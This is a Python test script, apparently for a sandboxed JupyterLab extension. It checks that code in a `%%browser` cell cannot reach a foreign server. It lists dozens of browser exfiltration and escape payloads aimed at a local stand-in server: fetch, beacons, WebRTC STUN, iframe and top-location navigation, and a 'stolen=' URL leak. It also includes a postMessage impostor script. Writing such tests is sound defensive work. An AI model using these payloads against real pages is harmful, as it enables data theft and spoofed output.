r"""Ways out of a `%%browser` cell to a server that belongs to no lab. No request may arrive.

    python tests/attacks/cell_exfil.py [part of a way's name]

In a real JupyterLab in a real Chromium. Exits 1 where a request or a UDP packet arrived, a foreign
page or an impostor wrote under the cell, or the notebook's page was left. (A TCP connection on
which nothing is sent is allowed: browsers open one before they ask whether they may navigate.)
"""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

TREE = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(TREE), str(TREE / "tools")]
from real_lab import running_browser, running_lab  # noqa: E402

from wslab.installed import CHROMIUM, find  # noqa: E402

SPEAKS = (
    "for (const w of [parent, parent.parent, top]) { const c = new MessageChannel(); "
    "w.postMessage('wslab: hello', '*', [c.port2]); "
    "c.port1.postMessage({ said: [['line', 'log', 'FOREIGN']] }); "
    "w.postMessage({ wslab: [['line', 'log', 'FOREIGN']] }, '*') }"
)
"""Script of a page that tries to write under the cell."""

WAIT = 1.2  # seconds for a way to show whether it leads out


class Strange(BaseHTTPRequestHandler):
    """A server of somebody else."""

    arrived: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.arrived.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f"<script>{SPEAKS}</script>".encode())

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def ways(web: str, stun: str) -> dict[str, str]:
    """What a cell tries, by name; `web` is the strange server, `stun` an address for UDP."""
    port = web.rpartition(":")[2]

    def element(tag: str, **attributes: str) -> str:
        sets = "".join(f"e[{name!r}] = {value!r};" for name, value in attributes.items())
        return f"let e = document.createElement({tag!r}); {sets} document.body.append(e);"

    def link(**attributes: str) -> str:
        return element("link", **attributes)

    def document(script: str) -> str:
        return json.dumps(f"<script>{script}</script>").replace("</", "<\\/")

    def within(script: str) -> str:
        return f"let e = document.createElement('iframe'); e.srcdoc = {document(script)};"

    webrtc = (
        f"let p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{stun}' }}] }}); "
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
    )
    frame = f'<iframe srcdoc="<script>{webrtc}</script>"></iframe>'
    append = "document.body.append(e);"
    in_shadow = "let d = document.createElement('div'); document.body.append(d);"
    page = f"new Blob([{document(f'fetch({web!r});' + SPEAKS)}], {{ type: 'text/html' }})"
    return {
        "fetch": f"fetch('{web}/fetch').catch(() => 0)",
        "XMLHttpRequest": f"let x = new XMLHttpRequest(); x.open('GET', '{web}/xhr'); x.send()",
        "EventSource": f"new EventSource('{web}/events')",
        "beacon": f"navigator.sendBeacon('{web}/beacon', 'x')",
        "import": f"import('{web}/import').catch(() => 0)",
        "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{web}/worker')`])))",
        "shared worker": f"new SharedWorker('{web}/shared')",
        "worklet": f"CSS.paintWorklet.addModule('{web}/worklet')",
        "img": f"new Image().src = '{web}/img'",
        "video": element("video", src=f"{web}/video", poster=f"{web}/poster"),
        "object": element("object", data=f"{web}/object"),
        "embed": element("embed", src=f"{web}/embed"),
        "iframe": element("iframe", src=f"{web}/iframe"),
        "css": element("style", textContent=f"@import url({web}/css); b {{ color: red }}"),
        "css background": f"document.body.style.background = 'url({web}/background)'",
        "stylesheet": link(rel="stylesheet", href=f"{web}/sheet"),
        "prefetch": link(rel="prefetch", href=f"{web}/prefetch"),
        "preload": link(rel="preload", href=f"{web}/preload") + "e.as = 'script'",
        "modulepreload": link(rel="modulepreload", href=f"{web}/modulepreload"),
        "icon": link(rel="icon", href=f"{web}/icon"),
        "manifest": link(rel="manifest", href=f"{web}/manifest"),
        "speculation": "let e = document.createElement('script'); e.type = 'speculationrules'; "
        f"e.textContent = JSON.stringify({{ prefetch: [{{ urls: ['{web}/speculation'] }}] }}); "
        + append,
        "svg": f"document.body.innerHTML = `<svg><image href={web}/image /><use href={web}/u#x>`",
        "base": f"<base href='{web}/base/'><img src=x><link rel=stylesheet href=y>",
        "form": element("form", action=f"{web}/form") + "e.submit()",
        "ping": element("a", href="#", ping=f"{web}/ping") + "e.click()",
        "download": element("a", href=f"{web}/download", download="x") + "e.click()",
        "popup": f"open('{web}/popup')",
        "top": f"top.location = '{web}/top'",
        "parent": f"parent.location = '{web}/parent'",
        "parent by name": f"open('{web}/parent', '_parent'); open('{web}/top', '_top')",
        "ws to another port": f"new WebSocket('ws://127.0.0.1:{port}/ws')",
        "ws to localhost": f"new WebSocket('ws://localhost:{port}/ws')",
        "ws to 0": f"new WebSocket('ws://0:{port}/ws')",
        "ws as another user": f"new WebSocket('ws://x:y@127.0.0.1:{port}/ws')",
        "webtransport": f"new WebTransport('https://127.0.0.1:{port}/').ready.catch(() => 0)",
        "webrtc": webrtc,
        "webrtc in a frame": within(webrtc) + append,
        "webrtc in a fresh frame": "let e = document.createElement('iframe'); "
        f"{append} let RTCPeerConnection = e.contentWindow.RTCPeerConnection; {webrtc}",
        "webrtc in a shadow": f"{in_shadow} {within(webrtc)}"
        "d.attachShadow({ mode: 'closed' }).append(e)",
        "webrtc in html": f"<p>x</p>{frame}",
        "webrtc in html's shadow": f"<div><template shadowrootmode=open>{frame}</template></div>",
        "fetch in a frame": within(f"fetch('{web}/within')") + append,
        "a frame that navigates": within(f"location = '{web}/within'") + append,
        "a frame that navigates the cell": within(f"parent.location = '{web}/within'") + append,
        "meta refresh": "let e = document.createElement('meta'); e.httpEquiv = 'refresh'; "
        f"e.content = '0;url={web}/refresh'; document.head.append(e)",
        "meta refresh in html": f"<meta http-equiv=refresh content='0;url={web}/refresh'>",
        "navigate itself": f"location.href = '{web}/navigate?stolen=' + encodeURIComponent(url)",
        "navigate later": f"setTimeout(() => location.replace('{web}/later'), 500)",
        "navigate by a link": element("a", href=f"{web}/link") + "e.click()",
        "navigate by name": f"open('{web}/self', '_self')",
        "navigate by navigation": f"navigation.navigate('{web}/navigation')",
        "navigate unheard": f"document.open(); setTimeout(() => location = '{web}/open', 300)",
        "to a blob": f"location = URL.createObjectURL({page})",
        "to data": f"location = 'data:text/html,' + encodeURIComponent({document(SPEAKS)})",
        "to javascript": f"location = `javascript:'<img src={web}/javascript>'`",
        "again and again": "location.reload()",
        "impostor": SPEAKS,
    }


def main(wanted: str) -> int:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Strange)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    tried = {
        name: code
        for name, code in ways(
            f"http://127.0.0.1:{server.server_port}", f"127.0.0.1:{udp.getsockname()[1]}"
        ).items()
        if wanted in name
    }
    out = 0
    with (
        tempfile.TemporaryDirectory() as folder,
        running_browser(str(find(CHROMIUM))) as browser,
        running_lab(Path(folder)) as lab,
    ):
        opens = "from wslab.labs import first_connection\nlab = first_connection.open()"
        lab.write_notebook("ways.ipynb", opens, *(f"%%browser\n{code}" for code in tried.values()))
        notebook = lab.open(browser, "ways.ipynb")
        notebook.run_cell(0)
        for number, name in enumerate(tried):
            notebook.run_cell(number + 1)
            time.sleep(WAIT)
            found = [f"request for {path}" for path in Strange.arrived]
            Strange.arrived.clear()
            with contextlib.suppress(BlockingIOError):
                while udp.recv(2000):
                    found = [*found, "UDP"][:4]
            if "FOREIGN" in notebook.view("browser-cell").nth(number).inner_text():
                found.append("strange words under the cell")
            if not notebook.page.url.startswith(lab.url):
                found.append(f"the page went to {notebook.page.url}")
            out += bool(found)
            print(f"{'OUT ' if found else 'held'}  {name}  {', '.join(found)}".rstrip())
        notebook.close()
    server.shutdown()
    print(f"{len(tried)} ways, {out} led out")
    return int(out > 0)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else ""))
